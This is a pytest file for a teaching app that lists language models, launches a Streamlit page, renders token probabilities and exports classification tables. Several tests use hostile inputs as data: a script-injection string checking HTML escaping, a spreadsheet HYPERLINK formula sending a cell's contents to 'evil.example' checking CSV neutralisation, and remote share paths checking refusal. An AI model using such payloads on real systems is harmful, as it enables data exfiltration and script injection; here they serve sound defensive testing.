"""The app without Streamlit: its command's plan, its list of models, what it draws, its probabilities."""

import csv
import io
import json
import re
import shutil
import sys
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch
from support.command_line import fails

from companion import load, village
from companion.__main__ import main
from companion.cli import app as app_command
from companion.datasets import prepare
from companion.lora import add_lora, save_adapter
from companion.runtime.storage.adapters import on_network
from companion.serve import html_parts as html
from companion.serve.classifying import as_csv, make_example
from companion.serve.drawing import Drawing, Seen
from companion.serve.offered import SHIPPED, Offer, beginnings, find_offered, of_kind
from companion.tokenization import CharTokenizer
from companion.village import judge

DATA = village.DATA / "models"
EVIL = '<script>alert("1")</script>\'&'


@pytest.fixture(autouse=True)
def streamlit_is_there(monkeypatch):
    """The plan looks for Streamlit first; the gate's environment has none."""
    monkeypatch.setattr(app_command, "find_spec", lambda name: name == "streamlit")


@pytest.fixture
def folders(tmp_path):
    """A folder with two models, a pickle, a file that is none, and a hidden model."""
    for name in ("village", "deep/er/answerer", ".hidden/village"):
        shutil.copytree(DATA / Path(name).name, tmp_path / "mine" / name)
    (tmp_path / "mine" / "pickled").mkdir()
    for name in ("config.json", "tokenizer.json"):
        shutil.copy(DATA / "village" / name, tmp_path / "mine" / "pickled")
    (tmp_path / "mine" / "pickled" / "pytorch_model.bin").write_bytes(b"\x80\x04.")
    (tmp_path / "mine" / "notes.txt").write_text("nothing")
    return tmp_path / "mine"


def test_the_list_has_what_can_be_loaded_with_kind_and_size(folders, tmp_path):
    found = {model.name: model for model in find_offered([folders, tmp_path / "not yet"], {})}
    assert set(found) == {"mine/village", "mine/deep/er/answerer"}
    assert found["mine/village"].kind == "tells" and found["mine/deep/er/answerer"].kind == "answers"
    size = (folders / "village" / "model.safetensors").stat().st_size
    about = f"Was trained on stories of the village; {size / 1e6:.1f} MB"
    assert (found["mine/village"].label, found["mine/village"].description) == ("mine/village", about)
    assert [*of_kind(found.values(), "answers", "tells")] == [
        "mine/deep/er/answerer (answers)",
        "mine/village (tells)",
    ]


def test_the_models_of_the_course_have_plain_names_and_each_says_what_it_does():
    found = find_offered([DATA], {})
    assert [model.label for model in found][0] == "Village storyteller"
    assert {Path(model.folder).name for model in found} == set(SHIPPED)
    assert all(model.title and "chapter" in model.description for model in found)


def test_the_example_classifier_was_not_trained_on_its_texts():
    example = make_example()
    rows = list(csv.DictReader((village.DATA / "messages.csv").open(encoding="utf-8", newline="")))
    labels = {row["text"]: row["label"] for row in rows}
    texts = list(example.labels)
    answers = example.reader.classify(texts)
    assert example.labels == {text: labels[text] for text in texts}
    right = sum(max(one, key=one.get) == labels[text] for one, text in zip(answers, texts, strict=True))
    assert len(texts) == 20 and right > 12  # always "no spam" would be right 12 times
    assert f"Of the 20 others, with which the page begins, it classifies {right}" in example.description


def test_a_model_itself_two_folders_of_a_name_and_a_name_given(folders, tmp_path):
    shutil.copytree(DATA / "village", tmp_path / "other" / "mine" / "village")
    found = find_offered([folders, tmp_path / "other" / "mine"], {"mine": DATA / "answerer"})
    assert len(found) == 4 == len({model.name for model in found})
    assert [model.name for model in find_offered([folders / "village"], {})] == ["village"]


def test_a_model_of_another_text_is_offered_with_beginnings_of_that_text(folders, tmp_path):
    config = json.loads((folders / "village" / "config.json").read_text("utf-8"))
    config["provenance"]["data"] = {"source": "letters"}
    (folders / "village" / "config.json").write_text(json.dumps(config), "utf-8")
    sources = {model.name: model.source for model in find_offered([folders], {})}
    assert sources == {"mine/village": "letters", "mine/deep/er/answerer": "village"}
    letters = ["Dear Ann, how are you? Today it rained a lot.\nYours for ever, Bob"] * 9
    prepare(letters, CharTokenizer.train("".join(letters)), folders / "data" / "letters", source="letters")
    found = beginnings("letters", [folders])
    assert found and set(found) <= {"Dear Ann, how", "Today it rained", "Yours for ever,"}
    assert beginnings("others", [folders]) == [] == beginnings("letters", [tmp_path / "none"])


def test_an_adapter_is_listed_where_its_model_is_here_and_a_classifier_as_one(tmp_path):
    teller = load(DATA / "village", "cpu")
    add_lora(teller.model, None, 2, 2.0)
    for name, base in (
        ("here", DATA / "village"),
        ("away", "openai-community/gpt2"),
        ("evil", r"\\evil\share"),
    ):
        save_adapter(teller.model, tmp_path / name, base)
    assert [Path(model.folder).name for model in find_offered([tmp_path], {})] == ["here"]
    (tmp_path / "here" / "head.safetensors").write_bytes(b"")
    assert [model.kind for model in find_offered([tmp_path], {})] == ["classifies"]
    with pytest.raises(ValueError, match="is on another computer; copy that model"):
        load(tmp_path / "evil")


# -- the command ------------------------------------------------------------------


def test_what_is_wrong_is_one_line(monkeypatch, tmp_path, capsys):
    fails(capsys, ["app", "--models", tmp_path / "none"], 2, "--models=", "is no folder")
    fails(capsys, ["app", "--models", tmp_path], 2, "has no model in it")
    fails(capsys, ["app", "--model", tmp_path], 2, f"--model={tmp_path} holds no model")
    fails(capsys, ["app", "--port", 0], 2, "--port=0 must be a whole number from 1 to 65,535")
    fails(capsys, ["app", "--device", "tpu"], 2, "device='tpu'")
    monkeypatch.setattr(app_command, "find_spec", lambda name: None)
    fails(capsys, ["app"], 2, "needs streamlit", "pip install -e '.[serve]'")


@pytest.fixture
def calls(monkeypatch):
    """What Streamlit was started with."""
    calls = []
    stub = SimpleNamespace(main=lambda words, standalone_mode: calls.append(words))
    monkeypatch.setitem(sys.modules, "streamlit", SimpleNamespace())
    monkeypatch.setitem(sys.modules, "streamlit.web", SimpleNamespace(cli=stub))
    monkeypatch.setitem(sys.modules, "streamlit.web.cli", stub)
    return calls


def test_streamlit_is_told_to_send_nothing_and_gets_the_offer(calls):
    assert main(["app", "--port", "8599", "--device", "cpu"]) == 0
    (words,) = calls
    options = dict(zip(words[2:-2:2], words[3:-2:2], strict=True))
    assert words[0] == "run" and Path(words[1]).name == "tell.py" and Path(words[1]).is_file()
    assert options["--browser.gatherUsageStats"] == "false" and options["--server.headless"] == "true"
    assert options["--server.address"] == "127.0.0.1" and options["--server.port"] == "8599"
    assert float(options["--server.maxUploadSize"]) <= 10 and options["--client.showErrorDetails"] == "none"
    offer = Offer(**json.loads(words[-1]))
    names = [model.name for model in find_offered(offer.folders, offer.named)]
    assert words[-2] == "--" and names[0] == "models/village" and "models/answerer" in names
    assert offer.devices[0] == "cpu" and len(set(offer.devices)) == len(offer.devices)


def test_the_models_of_the_course_stay_after_those_of_a_folder(calls, folders, capsys):
    assert main(["app", "--models", str(folders)]) == 0
    offer = Offer(**json.loads(calls[0][-1]))
    names = [model.name for model in find_offered(offer.folders, offer.named)]
    assert names[0] == "mine/village" and "models/village" in names and "models/answerer" in names
    assert f"The app offers {len(names)} models." in capsys.readouterr().out


# -- what is drawn ------------------------------------------------------------------


class Tags(HTMLParser):
    """The tags of a page, and whether each is closed."""

    def __init__(self, page: str):
        super().__init__()
        self.names, self.open, self.texts = [], [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.names.append(tag)
        self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.texts.append(data)


def test_every_text_is_escaped_and_every_tag_closed():
    seen = [Seen(EVIL, 0.25, ((EVIL, 0.25), ("<b>", 0.5)))]
    verdicts = [*judge("Mara ate a key."), village.Verdict(EVIL, "unknown", EVIL)]
    drawn = [mark(EVIL) for mark in (html.plain, html.note, html.alert, html.heading)]
    drawn += [html.judged(verdicts), html.legend(verdicts), html.tokens(EVIL, seen)]
    drawn += [html.token_table(seen, EVIL), html.class_table([EVIL], [{EVIL: 0.75, "b": 0.25}], {EVIL: EVIL})]
    for page in drawn:
        tags = Tags(page)
        assert tags.open == [] and "script" not in tags.names and tags.names
    assert sum(EVIL in "".join(Tags(page).texts) for page in drawn) >= 6


def test_each_verdict_has_a_sign_or_a_line_besides_its_color_and_its_reason():
    kinds = {kind: village.Verdict("S.", kind, f"because {kind}") for kind in html.MEANINGS}
    pages = {kind: html.judged([verdict]) for kind, verdict in kinds.items()}
    assert all(f"because {kind}" in page and f"c-{kind}" in page for kind, page in pages.items())
    signs = {kind: "".join(Tags(page).texts).split("S.")[0].strip() for kind, page in pages.items()}
    assert len(set(signs.values())) == 4 and signs["ok"] == ""
    legend = html.legend(list(kinds.values()) * 2)
    assert "contradiction<" not in legend
    assert all(f"</b> {meaning}</span> 2<" in legend for meaning in html.MEANINGS.values())
    assert html.legend([kinds["ok"]]).count("listitem") == 1 and html.legend([]).count("listitem") == 4


def test_the_hover_and_the_table_have_the_same_numbers():
    seen = [Seen(" the", 0.625, ((" the", 0.625), (" a", 0.25)))]
    seen += [Seen("\n", 0.125, ((".", 0.5), ("\n", 0.125)))]
    hover, table = html.tokens("Once", seen), html.token_table(seen, "m")
    assert 'title="␣the 0.625; others: ␣a 0.250"' in hover and 'title="⏎ 0.125; others: . 0.500"' in hover
    assert all(number in table for number in ("0.625", "0.250", "0.125", "0.500")) and 'tabindex="0"' in table
    assert re.findall(r"<td>(\d+)</td>", table) == ["1", "2"]  # the tokens are counted from 1
    doubts = [float(part.split("%")[0]) for part in hover.split("--doubt:")[1:]]
    assert doubts[0] < doubts[1]


# -- drawing ------------------------------------------------------------------


def test_a_drawing_tells_what_the_model_tells_and_its_probabilities_are_the_models():
    teller = load(DATA / "village", "cpu")
    drawing = Drawing(teller, "Once Mara", 60, seed=3, temperature=0.7, top_k=20)
    text = "".join(drawing)
    assert text == teller.generate("Once Mara", max_new_tokens=60, seed=3, temperature=0.7, top_k=20)
    seen = drawing.seen()
    assert "".join(one.text for one in seen) == text and len(seen) == len(drawing.ids)
    row = teller.encode("Once Mara")[0].tolist() + drawing.ids
    with torch.no_grad():
        shares = teller.model(torch.tensor([row]))[0].softmax(-1)
    for n, one in enumerate(seen):
        at = len(row) - len(seen) + n
        assert one.probability == pytest.approx(shares[at - 1, row[at]].item(), rel=1e-4)
        assert one.likeliest[0][1] == pytest.approx(shares[at - 1].max().item(), rel=1e-4)


def test_a_drawing_stays_within_the_context_and_may_be_broken_off():
    teller = load(DATA / "village", "cpu")
    drawing = Drawing(teller, "Once", 10_000, seed=1)
    room = teller.model.config.context_length + 1 - teller.encode("Once").shape[1]
    assert drawing.n == room and drawing.seen() == []
    pieces = iter(drawing)
    begun = [next(pieces) for _ in range(5)]
    assert "".join(one.text for one in drawing.seen()) == "".join(begun)
    full = Drawing(teller, "Once", 10_000, seed=1, temperature=2.0)
    "".join(full)
    assert len(full.seen()) == len(full.ids) <= room
    with pytest.raises(ValueError, match="above context_length"):
        Drawing(teller, "key " * 300, 10, seed=1)


# -- the table to download


@pytest.mark.parametrize("begin", ["=", "＝"])
def test_no_cell_of_the_table_is_a_formula(begin):
    text = f'{begin}HYPERLINK("http://evil.example?"&A1)'
    table = as_csv([text, "plain, and -1"], [{begin + "spam": 0.75, "ham": 0.25}] * 2)
    head, first, second = csv.reader(io.StringIO(table, newline=""))
    assert head == ["text", "class", f"'{begin}spam", "ham"]
    assert first == [f"'{text}", f"'{begin}spam", "0.7500", "0.2500"]
    assert second[0] == "plain, and -1"


# -- strangers' adapters


@pytest.mark.parametrize("name", [r"\\evil\share\model", "//evil/share", r"\\.\pipe\x"])
def test_a_path_of_another_computer_is_known_by_its_form(name):
    assert on_network(name) and not on_network(r"C:\models\base") and not on_network("/models/base")
